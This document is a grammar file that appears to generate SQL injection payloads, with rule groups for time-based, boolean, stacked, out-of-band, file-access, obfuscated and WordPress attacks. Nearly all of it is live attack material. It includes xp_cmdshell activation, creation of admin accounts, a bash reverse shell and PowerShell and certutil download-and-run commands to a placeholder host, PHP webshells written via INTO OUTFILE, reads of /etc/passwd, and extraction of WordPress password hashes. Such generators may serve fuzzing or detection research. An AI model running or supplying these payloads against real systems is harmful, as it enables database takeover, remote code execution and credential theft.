  cast(pg_sleep(‹#1-20›) as text)
  pg_sleep_for('‹#1-20› seconds')
sqli/time-other 2: ‹q› AND ‹#1000-9999›=DBMS_PIPE.RECEIVE_MESSAGE(‹CHR(‹#65-122›)||CHR(‹#65-122›)||CHR(‹#65-122›)¦'‹~1-4›'›,‹#1-20›)‹s›‹end2›
  ‹q›||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),‹#1-20›)||'
  ‹q› or ‹n›=dbms_pipe.receive_message(('‹~1-3›'),‹#1-20›)‹sqlend›
  ‹q›;BEGIN DBMS_LOCK.SLEEP(‹#1-20›); END;‹sqlend›
  ‹q›;begin user_lock.sleep(‹#1-20›); end‹sqlend›
  ‹q› AND ‹n›=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)‹sqlend›
  ‹q› AND ‹=a:‹#1000-9999››=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(‹#1-9›00000000/2))))‹s›‹end2›
  ‹q› and ‹n›=like('abcdefg',upper(hex(randomblob(‹#1-9›00000000))))‹sqlend›
  randomblob(‹#1-9›00000000)
  ‹q› AND ‹n›=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)‹sqlend›
  ‹q› AND ‹n›=(SELECT COUNT(*) FROM RDB§FIELDS AS T1,RDB§TYPES AS T2,RDB§COLLATIONS AS T3)‹sqlend›
  ‹q› AND ‹=a:‹#1000-9999››=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(‹#1000-9999›),0),500000000),NULL)‹end2›
  ‹q›;CALL REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY('AES',NULL),0),‹#1-9›00000000),NULL)‹sqlend›

sqli/boolean 5: ‹n›‹q› AND ‹=a:‹#1000-9999››=‹=a›‹s›‹end2›
  ‹n›‹q› AND ‹#1000-4999›=‹#5000-9999›‹s›‹end2›
  ‹q› AND ‹#1000-9999›=‹#1000-9999› AND ('‹=y:‹*4››'='‹=y›
  ‹n›) AND ‹=a:‹#1000-9999››=‹=a› AND (‹=y:‹#1000-9999››=‹=y›
  -‹#1000-9999›‹q› OR ‹=a:‹#1000-9999››=‹=a›‹s›‹end2›
  ‹n›‹q› AND (SELECT ‹#1000-9999› FROM DUAL)‹end2›
  ‹q›‹s›and‹s›‹ascii¦ord¦unicode›(‹substring¦substr¦mid›((‹subq›),‹#1-40›,1))‹>¦=¦<¦>=¦!=›‹#32-126›‹s›‹end2›
  ‹q› and ‹substring¦substr¦mid›(‹dbfn›,‹#1-20›,1)='‹*1›'‹sqlend›
  ‹q› and ‹substring¦substr›((‹subq›),‹#1-20›,‹#1-3›)=‹hexlit›‹sqlend›
  ‹q› and length((‹subq›))‹>¦=¦<›‹#1-64›‹sqlend›
  ‹q› AND ORD(MID((SELECT IFNULL(CAST(‹col› AS NCHAR),0x20) FROM ‹tab› ORDER BY ‹col› LIMIT ‹#0-9›,1),‹#1-30›,1))>‹#32-126›‹s›‹end2›
  ‹q› AND ASCII(SUBSTRING((SELECT COALESCE(CAST(‹col› AS VARCHAR(10000)),CHR(32)) FROM ‹tab› LIMIT 1 OFFSET ‹#0-9›)::text FROM ‹#1-30› FOR 1))>‹#32-126›‹end2›
  ‹q› AND ASCII(SUBSTRC((SELECT NVL(CAST(‹col› AS VARCHAR(4000)),CHR(32)) FROM ‹tab› WHERE ROWNUM=1),‹#1-30›,1))>‹#32-126›‹end2›
  ‹q› AND UNICODE(SUBSTRING((SELECT TOP 1 ISNULL(CAST(‹col› AS NVARCHAR(4000)),CHAR(32)) FROM ‹tab›),‹#1-30›,1))>‹#32-126›‹end2›
  ‹q› and (‹select› ‹substring¦substr›(concat(1,‹col›),1,1) ‹from› ‹tab› limit 0,1)=1‹sqlend›
  ‹q› and exists(‹subq›)‹sqlend›
  ‹q› and (‹select› count(*) ‹from› ‹tab›)‹>¦=¦>=›‹#0-99›‹sqlend›
  ‹q› and ‹dbfn› like '‹#3-8›%‹sqlend›
  ‹q› and ‹left¦right›(‹dbfn›,‹#1-5›)='‹~1-3›'‹sqlend›
  ‹q› and find_in_set('‹~1›',‹dbfn›)‹sqlend›
  ‹q› and instr((‹subq›),'‹~1-3›')>0‹sqlend›
  ‹q› and strcmp(‹dbfn›,'‹~1-4›')‹sqlend›
  ‹q› and if(‹true›,‹n›,‹n›)‹sqlend›
  ‹q› and case when (‹true›) then ‹n› else ‹n› end‹sqlend›
  (SELECT (CASE WHEN (‹=e:‹#1000-9999››=‹=e›) THEN ‹#1000-9999› ELSE (SELECT ‹#1000-9999› UNION SELECT ‹#1000-9999›) END))
  (CASE WHEN ‹=e:‹#1000-9999››=‹=e› THEN ‹#1000-9999› ELSE NULL END)
  ‹q› OR NOT ‹=a:‹#1000-9999››=‹=a›‹end2›
  ‹q› AND MAKE_SET(‹=a:‹#1000-9999››=‹=a›,‹#1000-9999›)‹end2›
  ‹q› AND EXTRACTVALUE(‹#1000-9999›,CASE WHEN (‹=a:‹#1000-9999››=‹=a›) THEN ‹#1000-9999› ELSE 0x3A END)‹end2›
  ‹q› and ‹col› regexp '^[a-‹~1›]'‹sqlend›
  ‹q› and ‹col› rlike '^‹~1-3›'‹sqlend›
  ‹q› and binary ‹col› like '‹~1-4›%'‹sqlend›
  IIF(‹=a:‹#1000-9999››=‹=a›,‹#1000-9999›,1/0)
  ‹n›‹q› and json_extract('{"‹~1›":1}','§.‹~1›')=1‹sqlend›
  ‹n›‹q› and json_length('{}')<=‹#1-9999›‹sqlend›
  ‹q› or '{"‹~1›":‹n›}'::jsonb <@ '{"‹~1›":‹n›,"‹~1›":‹n›}'::jsonb‹sqlend›
  ‹q› or json_depth('{}')=json_depth('[]')‹sqlend›
  ‹q› and (‹select› ‹n› ‹from› ‹tab› where ‹col› like '‹~1-3›%' limit 1)=‹n›‹sqlend›
  ‹q› and ‹n› in (‹subq›)‹sqlend›
  ‹q›‹s›and‹s›hex(‹substr¦mid›((‹subq›),‹#1-20›,1))='‹%2›'‹sqlend›

sqli/stacked 4: ‹q›‹;¦; ¦ ;›‹stmt›‹sqlend›
  ‹q›);‹stmt›;‹sqlend›
  ‹n›;‹stmt›‹sqlend›
  ‹word›'; ‹stmt›; ‹stmt›‹sqlend›
  ; ‹stmt›
  ‹q›;‹stmt›;‹select› '‹word›
stmt: drop table ‹tab›
  DROP TABLE ‹tab›
  DROP TABLE IF EXISTS ‹tab› CASCADE
  drop database ‹~3-9›
  delete from ‹tab›
  DELETE FROM ‹tab› WHERE ‹=a:‹n››=‹=a›
  truncate table ‹tab›
  update ‹tab› set ‹col›='‹word›'
  UPDATE ‹tab› SET ‹col›='‹%32›' WHERE ‹col›='‹user1›'
  insert into ‹tab› values('‹word›','‹word›')
  INSERT INTO ‹tab› (‹col›,‹col›) VALUES ('‹user1›','‹rnd›')
  insert into ‹tab› select ‹col› from ‹tab›
  ‹subq›
  select * from ‹utab›
  alter table ‹tab› drop column ‹col›
  create user ‹~3-6› identified by '‹rnd›'
  GRANT ALL PRIVILEGES ON *.* TO '‹~3-6›'@'%'
  exec master..xp_cmdshell '‹wincmd›'
  EXEC xp_cmdshell '‹wincmd›'
  exec('xp_cmdshell ''‹wincmd›''')
  EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE
  exec sp_addlogin '‹~3-6›','‹rnd›'
  exec master.dbo.sp_addsrvrolemember '‹~3-6›','sysadmin'
  exec master..xp_dirtree '\\‹host›\‹~1-4›'
  exec xp_fileexist '\\‹ip›\‹~1-4›'
  exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\CurrentControlSet\Services\lanmanserver\parameters','nullsessionshares'
  exec sp_makewebtask '\\‹ip›\‹~1-4›.html','select * from information_schema.tables'
  shutdown with nowait
  SHUTDOWN
  declare @‹=v:‹~1-3›› varchar(‹#100-8000›) set @‹=v›=0x‹%20-80› exec(@‹=v›)
  DECLARE @S VARCHAR(4000);SET @S=CAST(0x‹%40-120› AS VARCHAR(4000));EXEC(@S)
  set @‹=v:‹~1-3››=0x‹%20-80›;prepare ‹=w:‹~1-3›› from @‹=v›;execute ‹=w›
  COPY ‹=t:‹~3-8›› FROM PROGRAM '‹wincmd›'
  DROP TABLE IF EXISTS ‹=t:‹~3-8››;CREATE TABLE ‹=t›(‹=c:‹~3-6›› text);COPY ‹=t› FROM PROGRAM '‹id¦whoami¦curl http://‹addr›/¦bash -c "bash -i >& /dev/tcp/‹ip›/‹port› 0>&1"›'
  CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE 'c' STRICT
  select lo_import('/etc/passwd')
  select load_extension('‹~3-6›.so')
  ATTACH DATABASE '/var/www/‹~2-6›.php' AS ‹=d:‹~2-5››;CREATE TABLE ‹=d›.‹~2-5› (‹~2-5› text)
  CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException {Runtime.getRuntime().exec(cmd);return "";}';CALL EXEC('‹id¦whoami¦curl ‹addr››')
  CALL dbms_java.set_output(2000)
  handler ´‹tab›´ open;handler ´‹tab›´ read first
  show tables
  show databases
  select sleep(‹#1-9›)
  use ‹~3-8›;drop table ‹tab›
  begin execute immediate 'grant dba to ‹~3-6›';end
  rename table ‹tab› to ‹~3-6›
  backup database master to disk='\\‹ip›\‹~1-3›.dat'
  bulk insert ‹tab› from 'c:\‹~3-8›.txt'
wincmd: whoami
  dir c:\
  ping ‹-n ‹#1-9› ¦›‹addr›
  net user ‹~3-6› ‹rnd› /add
  ipconfig /all
  certutil -urlcache -f http://‹addr›/‹~1-5›.exe C:\Windows\Temp\‹~1-5›.exe
  powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://‹addr›/‹~1-5›.ps1')"
  id
  nslookup ‹host›
  curl http://‹addr›/

sqli/out-of-band 2: ‹q› and load_file(concat('\\\\',(‹subq›),'.‹host›\\‹~1-4›'))‹sqlend›
  ‹q› union select ‹load_file¦LOAD_FILE›('\\\\‹host›\\‹~1-4›')‹sqlend›
  ‹q›||UTL_HTTP.REQUEST('http://‹addr›/'||(‹subq›))‹sqlend›
  ‹q› or ‹n›=utl_http.request('http://‹addr›/')‹sqlend›
  ‹q› AND ‹n›=(SELECT HTTPURITYPE('http://‹addr›/'||(‹subq›)).GETCLOB() FROM DUAL)‹sqlend›
  ‹q› union select extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY % remote SYSTEM "http://‹addr›/"> %remote;]>'),'/l') from dual‹sqlend›
  ‹q›;declare @‹=v:‹~1-2›› varchar(1024);set @‹=v›=(‹subq›);exec('master..xp_dirtree "\\'+@‹=v›+'.‹host›\‹~1-3›"')‹sqlend›
  ‹q›;exec master..xp_dirtree '//‹host›/‹~1-3›'‹sqlend›
  ‹q› UNION SELECT * FROM OPENROWSET('SQLOLEDB','‹ip›';'sa';'‹rnd›','select 1')‹sqlend›
  ‹q›;select dblink_connect('host=‹host› user=‹~1-5› password='||(‹subq›)||' dbname=‹~2-5›')‹sqlend›
  ‹q› and DBMS_LDAP.INIT(('‹host›'),80) is not null‹sqlend›
  ‹q›;copy (select '') to program 'nslookup ‹host›'‹sqlend›
sqli/file 2: ‹q› union select ‹×0-4,:‹ucol››,‹'<?php system(§_GET["‹~1-3›"]); ?>'¦"<?php @eval(§_POST['‹~1-4›']);?>"¦0x3c3f706870‹%20-60›› into ‹outfile¦dumpfile¦OUTFILE¦DUMPFILE› '/‹var/www/html¦usr/share/nginx/html¦tmp›/‹~1-6›.php'‹sqlend›
  ‹q› into outfile '‹c:/inetpub/wwwroot¦/tmp¦/var/www›/‹~1-6›.‹txt¦php¦asp›'‹sqlend›
  ‹n›‹q› LIMIT 0,1 INTO OUTFILE '/‹var/www/html¦tmp›/tmp‹~5›.php' LINES TERMINATED BY 0x3c3f706870‹%20-60›‹sqlend›
  ‹q› union select load_file('/etc/‹passwd¦hosts¦my.cnf›'),‹×1-4,:‹ucol››‹sqlend›
  load_file(0x‹hex!/etc/passwd›)
  ‹q› and ‹n›=(select ‹n› from pg_read_file('/etc/passwd'))‹sqlend›
  ‹q› union select ‹n›,readfile('/etc/passwd')‹sqlend›
  ‹q› and ascii(substr(load_file('/etc/passwd'),‹#1-99›,1))>‹#32-120›‹sqlend›
  ‹q› union select pg_ls_dir('./')‹sqlend›
  ‹q› union select bulkcolumn from openrowset(bulk 'c:\windows\win.ini',single_clob) a‹sqlend›
sqli/obfuscated 3: ‹n›‹q›/**/‹and¦or¦AnD›/**/‹=a:‹n››/**/‹like¦=¦in›/**/‹=a›
  ‹n›‹q›%0a‹and¦or›%0a‹=a:‹n››=‹=a›%0a‹sqlend›
  ‹n›‹q›/*!50000‹and¦or›*/‹=a:‹n››=‹=a›‹sqlend›
  ‹n›'or(1)=(1)‹sqlend›
  ‹n›'oorr '‹=a:‹n››'='‹=a›
  'AND(‹=a:‹n››)=(‹=a›)AND'‹~1›'='‹~1›
  ‹n›+un/**/ion+se/**/lect+‹×1-5,:‹n››‹sqlend›
  -‹n›'/*!‹#10000-60000›UnIoN*/(/*!‹#10000-60000›sElEcT*/(‹n›),(‹n›)from(‹tab›))‹sqlend›
  ‹n›'%09or%09‹=a:‹n››=‹=a›%23
  ‹n›'%23%0aunion%23‹~3›%0aselect ‹×1-4,:‹n››‹sqlend›
  ‹n›'--‹~3-6›%0aunion--‹~3-6›%0aselect‹×1-4,:‹n››
  'or--‹~2-4›⏎‹=a:‹n››=‹=a›‹sqlend›
  'uNiOn(sElEcT(‹n›),(‹dbfn›),‹n›)‹sqlend›
  '{‹~1-2› 1} union select ‹n›,‹n›‹sqlend›
  ‹n›'={‹~1› ‹n›} or {‹~1› ‹=a:‹n››}={‹~1› ‹=a›}‹sqlend›
  ‹n›' <@=‹~1› div@‹~1›:=‹n› union select ‹n›‹sqlend›
  'or@@version‹sqlend›
  ‹n›' ‹and¦or› @‹~1›:=‹n›‹sqlend›
  '&&sleep(‹#1-9›)&&'‹n›
  '||if((‹true›),sleep(‹#1-9›),0)||'
  '%26%26‹=a:‹n››=‹=a›%23
  ‹n›\')or(‹=a:‹n››=‹=a›)‹sqlend›
  %bf%27 or ‹=a:‹n››=‹=a›‹sqlend›
  縗' or ‹=a:‹n››=‹=a›‹sqlend›
  ＇ or ‹=a:‹n››=‹=a›‹sqlend›
  ʼ or ‹=a:‹n››=‹=a›‹sqlend›
  ‹n›' ‹op› ‹~1›.‹col›=0x‹%6› ‹sqlend›
  1.e(‹col›)or‹=a:‹n››=‹=a›
  1' or 1.e(1)=1.e(1)‹sqlend›
  ‹n›'and 1.e(ascii 1.e(substring(1.e(select ‹col› from ‹tab› limit 1 1.e,1)),1,1)))>‹#1-99›‹sqlend›
  ''' or ‹=a:‹n››=‹=a›‹sqlend›
  '⇥or⇥'‹=a:‹n››'⇥=⇥'‹=a›
  concat(‹×2-6,:‹hexlit››)
  ‹n› and (select 1)=(select 0x‹%2›‹×3-30∅:41›)+/*!uNioN*/+/*!sElEcT*/+‹×1-4,:‹n››
sqli/statement 2: ‹select› ‹*¦‹col›,‹col›¦‹col›› ‹from› ‹utab›‹¦;¦ where ‹true›¦ --›
  ‹stmt›‹;¦ --¦›
  ‹stmt›;‹stmt›
  ‹subq›
  ‹select› ‹dbfn›
  ‹dbfn›
  select * from ‹tab› where ‹col› = '' or ‹true›
  ‹subq› union ‹subq›
  BEGIN; ‹stmt›; COMMIT
  {"‹sql¦query¦statement›":"‹subq›"}
  ‹@@version¦@@datadir¦@@hostname¦@@servername¦@@tmpdir¦@@plugin_dir›
  char(‹×3-9,:‹#48-122››)
  ‹col›=(‹subq›)
sqli/wordpress 2: ‹n›) AND (SELECT ‹#1000-9999› FROM (SELECT(SLEEP(‹#1-20›)))‹*4›) AND (‹=a:‹#1000-9999››=‹=a›
  ‹n›) UNION ALL SELECT ‹×0-6,:NULL›,CONCAT(md5(‹n›)),‹×1-6,:NULL›-- -
  ‹n›' AND (SELECT ‹#1000-9999› FROM (SELECT(SLEEP(‹#1-20›)))‹*4›)-- ‹*4›
  ‹col›,(select sleep(‹#1-9›) from wp_users limit 1)
  ‹n› and (select sleep(‹#1-9›) from (select count(*) from wp_options) ‹~1›)‹sqlend›
  ‹n›) union select user_login,user_pass,‹×1-6,:‹n›› from wp_users‹sqlend›
  ‹n›%' union select concat(user_login,0x3a,user_pass),‹×1-6,:‹n›› from wp_users where id=1‹sqlend›
  ‹col› AND (select ‹n› from (select(sleep(‹#1-9›)))‹~1›)
  "‹n›) or (‹true›"
  [‹n›,"‹n›) or sleep(‹#1-9›)‹sqlend›"]
  ‹asc¦desc¦ASC¦DESC›; ‹select› sleep(‹#1-9›)
  ‹n› union select ‹×1-30,:0x‹hex!‹rnd›››‹sqlend›
  ´‹~2-6›´ where ‹=a:‹n››=‹=a› and sleep(‹#1-9›)‹sqlend›
  ‹col›´ and sleep(‹#1-9›) and ´‹col›´=´‹col›
  ‹n›' and updatexml(1,concat(0x7e,(select md5(‹#100000-999999999›)),0x7e),1) and '‹=a:‹n››'='‹=a›
sq.quote: 8× '
  3× "
  ´
sq.logic: 6× or
  4× and
  3× OR
  3× AND
  ‹mixed!or›
  ‹mixed!and›
  ||
  &&
  xor
  XOR
  and not
  or not
  div
  like
  where
  having
sq.compare = = = = = = = <> != > < >= <= <=> like LIKE rlike RLIKE regexp ~ == !< sounds␠like not␠like is is␠not between in
sq.arith = + - * / % ^ | & || << >> - + || ~ div mod collate and or xor && = < > <> <=> >= != like rlike
sq.number: ‹n›
  -‹#1-99›
  (‹n›)
  (-‹n›)
  ((‹n›))
  ‹#0-99›.‹#0-99›
  ‹#1-9›e‹#0-9›
  0x‹%1-8›
  ~‹#0-9›
  !‹#0-1›
  null
  true
  false
  pi()
  @@version
  ‹fl.name›(‹#0-9›)
fl.name = floor ceil sin cos abs exp sqrt ascii char length hex bin rand round sleep
sq.space: 10× ␠
  2× ∅
  +
  /**/
  ⇥
  ␠␠
sqli/operands 6: ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=q›‹=a:‹anyword››‹=q›‹¦ ›‹sq.compare›‹¦ ›‹=q›‹=a›
  2× ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=q›‹=a:‹anyword››‹=q›=‹=q›‹=a›
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=q›‹=a:‹anyword››‹=q›=‹=q›‹=a›‹=q›‹s›‹sqlend›
  ‹anyword›‹=q:‹sq.quote››) ‹sq.logic› (‹=q›‹=a:‹anyword››‹=q›=‹=q›‹=a›
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=q›‹anyword›‹=q›‹sq.compare›‹=q›‹anyword›
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹col› ‹sq.compare› ‹=q›‹anyword›
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=a:‹sq.number››‹sq.compare›‹=a›‹sq.space›‹sq.logic›‹sq.space›‹=q›‹anyword›‹=q›=‹=q›
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.arith›‹sq.space›‹=q›‹anyword›
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.arith›‹sq.space›‹sq.number›‹sq.space›‹sq.compare›‹sq.space›‹=q›‹anyword›
  ‹anyword›‹=q:‹sq.quote››‹sq.arith›‹sq.number›‹sq.space›‹sq.arith›‹sq.space›‹sq.number›‹sq.compare›‹=q›‹anyword›
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.arith›‹sq.space›‹=q›‹anyword›‹=q›‹sq.space›‹sq.arith›‹sq.space›‹sq.number›‹sq.space›‹sq.compare›‹sq.space›‹=q›‹anyword›
  ‹=q:‹sq.quote››‹¦ ›‹sq.arith›‹¦ ›‹=q›
  ‹=q:‹sq.quote››‹¦ ›not ‹rlike¦like¦between¦in¦regexp›‹¦ ›‹=q›
  ‹anyword›‹sq.space›‹sq.logic›‹sq.space›‹sq.number›‹sq.compare›‹sq.number›
  ‹sq.number›‹sq.space›‹sq.logic›‹sq.space›‹sq.number›‹sq.compare›‹sq.number›
  ‹sq.number›‹sq.arith›‹anyword› ‹sq.logic› ‹sq.number›‹sq.compare›‹sq.number›
  ‹anyword›‹=q:‹sq.quote››‹¦ ›‹.¦||¦+¦,›‹¦ ›‹fl.name›(‹#0-99›)‹¦ ›‹.¦||¦+¦,›‹¦ ›‹=q›‹¦‹anyword››
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹fl.name›(‹sq.number›)‹sq.compare›‹sq.number›‹sq.space›‹sqlend›
  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹fl.name›(‹fl.name›()) ‹sq.logic› ‹fl.name›(‹fl.name›())=‹n›
  ‹fl.name›(‹fl.name›()) ‹sq.logic› ‹fl.name›(‹fl.name›())=‹#0-9›
sqli/clauses 5: ‹sq.number›‹¦ ›‹q›‹s›ORDER BY ‹#1-40›‹s›‹sqlend›
  ‹sq.number›‹¦)¦'¦')› ‹order by¦ORDER BY¦group by¦GROUP BY› ‹#1-40›
  ‹sq.number›‹¦)¦'¦')› ‹INTO¦into› ‹OUTFILE¦DUMPFILE¦outfile› ‹'¦‘¦"¦›‹/tmp/‹~1-6›¦/var/www/html/‹~1-6›.php¦‹~2-6››‹'¦’¦"¦›‹¦--¦ -- ¦#›
  ‹sq.number›‹UNION¦union¦ union¦ UNION¦/**/union›‹s›‹select¦SELECT¦all select¦ALL SELECT›‹s›‹sq.number›‹¦,‹sq.number›¦,‹sq.number›,‹sq.number››
  ‹anyword›‹'¦"¦›‹UNION¦union›(‹SELECT¦select› ‹sq.number›)‹¦--¦#›
  ‹select¦SELECT› ‹fl.name›(‹‹~1-6›¦@‹~1-6›¦(‹~1-4›)¦-‹~1-4››)‹,‹sq.number›¦› ‹from¦FROM› ‹tab›‹ where¦ where ‹col›=‹sq.number›¦›
  ‹select¦SELECT› ‹-¦+¦~¦!¦›‹fl.name›(‹sq.number›)‹¦,‹sq.number›› ‹from ‹tab› ‹where¦limit 1¦›¦›
  ‹select¦SELECT› ‹@‹~2-8›¦@@‹~3-9›¦‹sq.number›› ‹~1-6›
  ‹SELECT¦select› ‹sq.number›‹FROM¦from¦ from ›‹[‹tab›]¦´‹tab›´¦"‹tab›"¦(‹tab›)›‹WHERE¦where¦ where ›‹\1=\1¦‹n›=‹n›¦1¦(1)›‹ and‹n›=‹n›¦AND\1=\1¦›
  ‹CASE¦case› ‹WHEN¦when› ‹¦BINARY ›‹TRUE¦true¦‹n›=‹n›¦(‹n›)› THEN ‹sq.number› ‹ELSE ‹sq.number› ¦›END‹¦ IS ‹¦NOT ›‹NULL¦UNKNOWN¦TRUE››‹¦ HAVING ‹sq.number›¦ FOR UPDATE¦ UNION SELECT ‹sq.number›¦ LIMIT 1›
  ‹n›‹'¦"¦)¦›; ‹call¦exec¦execute¦EXEC› ‹~1-8›‹(‹@‹~1-6›¦‹n›¦@@version›‹, @‹~1-3›¦›)¦ ‹n›¦ '‹~1-5›'›
  ‹n›‹'¦"¦)¦›;‹¦ ›‹declare¦DECLARE› @‹~1-4› ‹int¦varchar(99)¦nvarchar(4000)›;‹set @‹~1-4›=‹sq.number›;¦exec(@‹~1-4›)¦›
  ‹n›‹'¦"¦)¦›;‹¦ ›‹if¦IF› ‹n›=‹n› ‹waitfor delay '0:0:‹#1-30›'¦select ‹n›¦drop table ‹tab›¦begin select ‹n› end›
  @‹~2-8› into ‹outfile¦dumpfile› ‹~3-9›('‹~1-5›', ‹#1-20› ‹n›)
  ‹union¦UNION› ‹all ¦ALL ¦›‹select¦SELECT› ‹^1›‹~2-5›‹To¦As¦›‹^1›‹~2-5›("‹/etc/passwd¦‹~1-6››", "‹~2-6›")‹::‹~2-5›:‹n›¦›,‹sq.number›
  ‹n›--‹¦+¦ ›
  ‹n›/*‹¦!¦*/›
  ‹n› ‹procedure analyse¦PROCEDURE ANALYSE›(‹¦‹sq.number›,‹sq.number››)‹#¦--¦›
  ‹n›‹'¦"¦)¦› ‹and¦or› ‹exists¦not exists›(select ‹*¦‹n›› from ‹tab›)‹--¦#¦›
  ‹n› ‹in¦IN› (‹select¦SELECT› ‹col› ‹from¦FROM› ‹tab›)
  (‹select¦SELECT› ‹sq.number› ‹from¦FROM› (‹select¦SELECT›(‹fl.name›(‹n›)))‹~1-3›)
`
